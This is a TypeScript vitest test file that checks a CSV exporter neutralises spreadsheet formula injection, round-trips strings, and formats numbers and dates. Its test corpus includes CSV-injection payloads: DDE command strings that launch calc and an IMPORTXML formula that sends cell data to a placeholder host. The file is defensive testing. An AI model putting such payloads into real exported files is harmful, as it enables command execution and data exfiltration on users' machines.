import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it, test } from 'vitest';
import { csvField, csvLine } from '#domain/export/csv.ts';

/** What spreadsheets were made to calculate, or to open, by a file that somebody else had written. */
const corpus = [
  '=1+1',
  '+1',
  '-2',
  '@SUM(A1)',
  '\t=1',
  '\r=1',
  '\n=1',
  '\0=1',
  ' =HYPERLINK("http://x.example")',
  '＝1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  "=cmd|' /C calc'!A0",
  '=IMPORTXML(CONCAT("http://x.example/?",A1),"//a")',
  '-2+3+cmd|" /C calc"!A0',
  '\ttext',
  '\rtext',
  '\u00a0=1',
  '\u200e=1'.slice(1),
];

test.each(corpus)('%j is no formula in a spreadsheet', (text) => {
  expect(csvField(text).replace(/^"/, '')).toMatch(/^'/);
});

it('comes back as it was, but for the sign that keeps a formula from being one', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: 'binary' }), { minLength: 2 }), (texts) => {
      const [read = []] = parse(csvLine(texts), { record_delimiter: '\r\n', relax_quotes: false }) as string[][];
      expect(read.map((text) => text.replace(/^'/, ''))).toEqual(texts.map((text) => text.replace(/^'/, '')));
    }),
  );
});

describe('what counts', () => {
  test.each([
    [{ number: -5 }, '-5'],
    [{ number: 0.5 }, '0.5'],
    [{ cents: -1_205 }, '-12.05'],
    [{ cents: 100_000_000 }, '1000000.00'],
    [{ date: '2026-02-28' }, '2026-02-28'],
    [{ clock: '2026-02-28T14:05' }, '2026-02-28 14:05'],
    [null, ''],
  ])('%j stays what it is', (cell, text) => expect(csvField(cell)).toBe(text));
});
